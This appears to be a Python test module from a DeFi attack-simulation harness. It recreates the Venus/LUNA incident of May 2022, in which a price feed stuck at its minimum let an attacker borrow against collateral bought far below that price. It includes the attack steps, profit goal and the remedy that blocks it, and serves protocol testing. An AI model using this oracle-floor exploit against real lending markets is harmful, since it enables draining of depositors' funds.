"""Venus, 12 May 2022: LUNA's feed stops at its minimum of $0.107 while the market falls to $0.01.

At a collateral factor of 55% each LUNA borrows $0.0589 and costs $0.01.
"""

from __future__ import annotations

from collections.abc import Generator
from dataclasses import dataclass

from harness.attacks.calls import borrow, supply
from harness.attacks.script import Attack, Check, Parameters
from harness.attacks.stage import Stage


@dataclass(frozen=True)
class Stuck(Parameters):
    """luna: bought outside, at market_usd; as many as borrow the $13.5M that were taken.

    minimum_usd: below it the feed does not go, though it goes on being updated
    ltv_bps: of LUNA
    lendable_usd: what the market has to lend
    """

    luna: float = 230_000_000.0
    minimum_usd: float = 0.107
    market_usd: float = 0.01
    ltv_bps: int = 5_500
    lendable_usd: float = 50_000_000.0


def play(stage: Stage, p: Stuck) -> Generator[int | None, None, None]:
    """Supplies LUNA at the feed's price and leaves with what it borrows."""
    luna, busd = stage.token("LUNA", 1), stage.token("BUSD", 1)
    source = stage.feed("LUNA")
    stage.feed("BUSD")
    minimum = round(p.minimum_usd * 10**8)
    feed = stage.deploy("StuckFeed", source, minimum, (1 << 256) - 1, "LUNA / USD")
    terms = {"feed": feed, "ltv": p.ltv_bps, "threshold": p.ltv_bps, "bonus": 1_000}
    if p.remedied:
        terms["min_answer"] = minimum
    market = stage.lending("market", {"LUNA": terms, "BUSD": {}})
    stage.supplier("supplier", market, BUSD=p.lendable_usd)
    attacker = stage.actor("attacker", LUNA=p.luna)
    stage.approve(attacker, ["LUNA"], market)
    stage.price("LUNA", p.market_usd)
    yield None

    stage.push(source, p.market_usd)
    yield None
    amount = stage.units("LUNA", p.luna)
    debt = amount * minimum // 10**8 * p.ltv_bps // 10_000
    stage.send(
        "supply LUNA at the feed's price, borrow all it allows",
        attacker,
        supply(market.market, luna, amount, attacker),
        borrow(market.market, busd, debt, attacker),
    )
    yield None


def _size(p: Stuck) -> float:
    """What the market pays for each LUNA above its price, times how many there are."""
    return p.luna * (p.minimum_usd * p.ltv_bps / 10_000 - p.market_usd)


ATTACK = Attack(
    name="stuck-feed",
    title="collateral bought at the market's price, supplied at the feed's minimum",
    sources=("Venus and LUNA, 12 May 2022",),
    play=play,
    parameters=Stuck(),
    remedy="answers at the feed's minimum are refused",
    stopped_by="AnswerOutOfBounds",
    protocol=(Check("profit", at_most=0), Check("insolvency", at_most=0)),
    goal=lambda p: Check("profit", at_least=_size(p) * 0.9999),
    reported="$11.2M",
)
